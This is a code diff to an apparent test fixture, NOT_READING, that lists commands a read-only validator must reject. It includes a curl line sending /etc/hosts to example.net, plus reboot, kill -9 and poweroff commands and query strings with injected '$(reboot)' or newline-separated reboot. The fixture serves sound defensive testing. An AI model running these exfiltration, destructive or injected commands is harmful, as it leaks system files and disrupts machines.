@@ -7,6 +7,15 @@ export const NOT_READING: Readonly<Record<string, readonly string[]>> = {
     "ping `hostname`.example.net",
     'curl "https://example.net/?d=$(cat /etc/hosts)"',
   ],
+  "forms of queries": [
+    "reboot",
+    "kill -9",
+    "poweroff{}",
+    'errors{job="web"} > file',
+    'up{job="$(reboot)"} > 5',
+    "sum(up) -\nreboot",
+    "cat <a b> c",
+  ],
   "unknown programs and options": [
     "docker ps --unknown",
     "podman ps --runtime=/tmp/x",
